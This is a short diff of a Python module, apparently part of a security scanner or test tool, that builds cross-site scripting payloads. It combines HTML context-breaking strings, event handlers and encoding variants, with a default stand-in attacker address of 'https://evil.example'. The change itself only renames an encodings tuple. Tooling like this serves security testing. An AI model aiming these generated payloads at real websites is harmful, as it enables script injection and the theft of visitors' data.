@@ -65,7 +65,7 @@ _BREAKS = (
     "`>",
     '"><!--',
 )
-_ENCODINGS: tuple[Callable[[str], str], ...] = (
+ENCODINGS: tuple[Callable[[str], str], ...] = (
     str,
     html.escape,
     lambda text: "".join(f"&#{ord(c)};" for c in text),
@@ -86,5 +86,5 @@ def payloads(address: str = "https://evil.example") -> list[str]:
     handlers = [element.format(handler=handler, code=_CODE) for element, handler in product(_ELEMENTS, _HANDLERS)]
     handlers, loads = ([text.replace(CANARY, address) for text in texts] for texts in (handlers, _LOADS))
     broken = [f"{escape}{load}" for escape, load in product(_BREAKS, (loads[1], loads[2], handlers[0]))]
-    encoded = [encode(text) for encode, text in product(_ENCODINGS, (*loads[:6], handlers[0], handlers[8]))]
+    encoded = [encode(text) for encode, text in product(ENCODINGS, (*loads[:6], handlers[0], handlers[8]))]
     return list(dict.fromkeys([*handlers, *loads, *broken, *encoded]))
